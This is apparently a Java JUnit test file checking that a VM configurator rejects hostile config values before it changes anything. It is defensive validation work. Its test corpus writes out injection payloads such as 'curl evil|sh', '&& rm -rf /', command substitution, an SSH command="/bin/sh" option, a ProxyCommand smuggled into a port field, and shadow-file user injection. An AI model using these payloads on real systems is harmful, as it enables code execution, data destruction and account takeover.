package cloud.luoyun.osmanager.configure;

import cloud.luoyun.osmanager.config.FloppyWriter;
import cloud.luoyun.osmanager.util.ExitStatus;
import cloud.luoyun.osmanager.util.Processes;
import com.fasterxml.jackson.jr.ob.JSON;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Configs a hostile web form or a broken compute node could hand over. Each is refused before the
 * first change: exit status 2, the message names the field, no command runs (not even a query),
 * and no byte, mode or inode under the root or the home changes (etc/shadow keeps its mode).
 * Half of them travel on a floppy image, the rest as a plain luoyun.ini.
 */
class HostileConfigTest {
  static final String KEY_LINE =
      "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAICLLz0JhZoHlDBh2ZMkTmgtsui1UzHhdYhQfF5+QD8NJ owner@example";
  static final String RSA_WITH_ED_BLOB =
      "ssh-rsa AAAAC3NzaC1lZDI1NTE5AAAAICLLz0JhZoHlDBh2ZMkTmgtsui1UzHhdYhQfF5+QD8NJ x";

  @TempDir Path tmp;

  /** Records and refuses: nothing may run for these configs. */
  static final class NoRunner implements CommandRunner {
    final List<List<String>> commands = new ArrayList<>();

    @Override
    public Processes.Result run(List<String> argv, Duration timeout, Map<String, String> env) {
      commands.add(argv);
      return new Processes.Result(127, false, "not run by the test");
    }
  }

  static Map<String, Object> vectorJson() throws IOException {
    String ini = ImageTree.vectorIni();
    String json = ini.lines().filter(l -> l.startsWith("JSON=")).findFirst().orElseThrow().substring(5);
    return new LinkedHashMap<>(JSON.std.mapFrom(json));
  }

  @SuppressWarnings("unchecked")
  static Map<String, Object> nic(Map<String, Object> json) {
    return (Map<String, Object>) ((List<Object>) json.get("network")).get(0);
  }

  /** The vector config with its JSON edited. */
  static byte[] withJson(Consumer<Map<String, Object>> edit) throws IOException {
    Map<String, Object> json = vectorJson();
    edit.accept(json);
    return withLine("JSON=", "JSON=" + JSON.std.asString(json));
  }

  /** The vector config with the line starting {@code prefix} replaced (or removed when null). */
  static byte[] withLine(String prefix, String line) throws IOException {
    StringBuilder b = new StringBuilder();
    for (String l : ImageTree.vectorIni().split("\n")) {
      if (l.startsWith(prefix)) {
        if (line != null) {
          b.append(line).append('\n');
        }
      } else {
        b.append(l).append('\n');
      }
    }
    return b.toString().getBytes(StandardCharsets.UTF_8);
  }

  static Arguments hostile(String field, String what, byte[] ini) {
    return Arguments.of(field, what, ini);
  }

  static Stream<Arguments> corpus() throws IOException {
    byte[] vector = ImageTree.vectorIni().getBytes(StandardCharsets.UTF_8);
    int jsonAt = ImageTree.vectorIni().indexOf("JSON=") + 5;
    byte[] nonUtf8 = vector.clone();
    nonUtf8[jsonAt + 3] = (byte) 0xff;
    List<Object> manyNics = new ArrayList<>();
    for (int i = 0; i < 17; i++) {
      manyNics.add(Map.of("ip", "10.0.1." + (i + 1)));
    }
    return Stream.of(
        hostile("network[0].ip", "command after ;", withJson(j -> nic(j).put("ip", "10.0.0.5; reboot"))),
        hostile("network[0].ip", "command substitution", withJson(j -> nic(j).put("ip", "$(reboot)"))),
        hostile("network[0].ip", "extra ip arguments", withJson(j -> nic(j).put("ip", "10.0.0.5 dev lo"))),
        hostile("network[0].ip", "a prefix glued on", withJson(j -> nic(j).put("ip", "10.0.0.5/8"))),
        hostile("network[0].ip", "loopback", withJson(j -> nic(j).put("ip", "127.0.0.1"))),
        hostile("network[0].ip", "multicast", withJson(j -> nic(j).put("ip", "224.0.0.1"))),
        hostile("network[0].ip", "the subnet's own address", withJson(j -> nic(j).put("ip", "10.0.0.0"))),
        hostile("network[0].ip", "full-width digits", withJson(j -> nic(j).put("ip", "\uff11\uff10.0.0.5"))),
        hostile("network[0].netmask", "backticks", withJson(j -> nic(j).put("netmask", "255.255.255.0`id`"))),
        hostile("network[0].netmask", "not contiguous", withJson(j -> nic(j).put("netmask", "255.0.255.0"))),
        hostile("network[0].netmask", "everything on-link", withJson(j -> nic(j).put("netmask", "0.0.0.0"))),
        hostile("network[0].netmask", "prefix 33", withJson(j -> nic(j).put("netmask", "33"))),
        hostile("network[0].gateway", "&& rm", withJson(j -> nic(j).put("gateway", "10.0.0.1 && rm -rf /"))),
        hostile("network[0].gateway", "outside the subnet", withJson(j -> nic(j).put("gateway", "192.168.9.1"))),
        hostile("network[0].gateway", "the NIC itself", withJson(j -> nic(j).put("gateway", "10.0.0.5"))),
        hostile("network[0].gateway", "the subnet's broadcast", withJson(j -> nic(j).put("gateway", "10.0.0.255"))),
        hostile("network[0].gateway", "a name instead of an address",
            withJson(j -> nic(j).put("gateway", "gw.example.com"))),
        hostile("network[0].ip", "a JSON number instead of a string", withJson(j -> nic(j).put("ip", 167772165))),
        hostile("network[0].mac", "command after the MAC",
            withJson(j -> nic(j).put("mac", "92:fd:3c:00:00:07; ip link set lo down"))),
        hostile("network[0].mac", "broadcast MAC", withJson(j -> nic(j).put("mac", "ff:ff:ff:ff:ff:ff"))),
        hostile("network[1].mac", "two entries, one MAC", withJson(j -> ((List<Object>) j.get("network"))
            .add(Map.of("ip", "10.0.0.9", "mac", "92:fd:3c:00:00:07")))),
        hostile("network[0].nameservers", "backticks", withJson(j -> nic(j).put("nameservers", "1.1.1.1 `id`"))),
        hostile("network", "huge number of NICs", withJson(j -> j.put("network", manyNics))),
        hostile("nameservers", "pipe to sh", withJson(j -> j.put("nameservers", "8.8.8.8;curl evil|sh"))),
        hostile("nameservers", "an extra resolv.conf line",
            withJson(j -> j.put("nameservers", "8.8.8.8\nnameserver 6.6.6.6"))),
        hostile("nameservers", "the unspecified address", withJson(j -> j.put("nameservers", "0.0.0.0"))),
        hostile("nameservers[0]", "an object in the list", withJson(j -> j.put("nameservers", List.of(Map.of())))),
        hostile("passwd_hash", "':' adds shadow fields", withJson(j -> j.put("passwd_hash", "$6$s$abc:0:0:root"))),
        hostile("passwd_hash", "a newline adds a user",
            withJson(j -> j.put("passwd_hash", "$6$s$abc\nevil::0:0:99999:7:::"))),
        hostile("passwd_hash", "a huge value", withJson(j -> j.put("passwd_hash", "$6$" + "a".repeat(20_000)))),
        hostile("passwd_hash", "not a hash at all", withJson(j -> j.put("passwd_hash", "hunter2 and more"))),
        hostile("public_key", "two keys on two lines", withJson(j -> j.put("public_key", KEY_LINE + "\n" + KEY_LINE))),
        hostile("public_key", "command= option", withJson(j -> j.put("public_key", "command=\"/bin/sh\" " + KEY_LINE))),
        hostile("public_key", "from= and no-pty options",
            withJson(j -> j.put("public_key", "no-pty,from=\"*\" " + KEY_LINE))),
        hostile("public_key", "not base64", withJson(j -> j.put("public_key", "ssh-ed25519 !!!notbase64 x"))),
        hostile("public_key", "type and blob disagree", withJson(j -> j.put("public_key", RSA_WITH_ED_BLOB))),
        hostile("public_key", "a control character", withJson(j -> j.put("public_key", KEY_LINE + "\u001b[2J"))),
        hostile("webssh.port", "port 0", withJson(j -> j.put("webssh", Map.of("status", "enable", "port", 0)))),
        hostile("domain.name", "shell in the host name", withJson(j -> j.put("domain", Map.of("name", "a;reboot")))),
        hostile("TAG", "command after the tag", withLine("TAG=", "TAG=7; reboot")),
        hostile("TAG", "beyond int32", withLine("TAG=", "TAG=99999999999")),
        hostile("TAG", "missing", withLine("TAG=", null)),
        hostile("TAG", "given twice", withLine("TAG=", "TAG=7\nTAG=8")),
        hostile("KEY", "missing", withLine("KEY=", null)),
        hostile("CLC_PORT", "options smuggled in", withLine("CLC_PORT=", "CLC_PORT=1369 -o ProxyCommand=sh")),
        hostile("CLC_PORT", "out of range", withLine("CLC_PORT=", "CLC_PORT=70000")),
        hostile("CLC_IP", "a host name", withLine("CLC_IP=", "CLC_IP=evil.example.com")),
        hostile("JSON", "truncated JSON", withLine("JSON=", "JSON={\"network\": [{\"ip\": \"10.0.0.5\"")),
        hostile("JSON", "a list instead of an object", withLine("JSON=", "JSON=[1, 2]")),
        hostile("JSON", "non-UTF-8 bytes", nonUtf8),
        hostile("source", "larger than any config", new byte[70_000]),
        hostile("source", "a floppy image that ends before luoyun.ini's last byte", java.util.Arrays.copyOf(
            Files.readAllBytes(ImageTree.vectorFloppy()), (int) Files.size(ImageTree.vectorFloppy()) - 1)));
  }

  @ParameterizedTest(name = "[{index}] {0}: {1}")
  @MethodSource("corpus")
  void isRefusedWithTheFieldNamedAndChangesNothing(String field, String what, byte[] ini) throws Exception {
    ImageTree tree = new ImageTree(tmp);
    Path source = tmp.resolve("source");
    boolean onFloppy = ini.length <= FloppyWriter.CAPACITY && ini.length > 0 && (field.length() + what.length()) % 2 == 0;
    Files.write(source, onFloppy ? FloppyWriter.image(ini, LocalDateTime.now()) : ini);
    Map<String, String> before = tree.snapshot();
    NoRunner runner = new NoRunner();

    Report r = new Configurator(Configurator.Options.of(tree.home).withRoot(tree.root).withSource(source)
        .withNetns("osmc-none"), runner, ImageTree.CLOCK).run();

    assertThat(r.exitCode()).isEqualTo(ExitStatus.BAD_INPUT);
    assertThat(r.badInput()).hasValueSatisfying(m -> assertThat(m).startsWith(field + ":").doesNotContain("\n"));
    assertThat(r.steps()).isEmpty();
    assertThat(runner.commands).isEmpty();
    assertThat(tree.snapshot()).isEqualTo(before);
    assertThat(tree.home.conf()).doesNotExist();
    assertThat(ConfiguratorTest.mode(tree.sys("etc/shadow"))).isEqualTo("rw-r-----");
  }
}
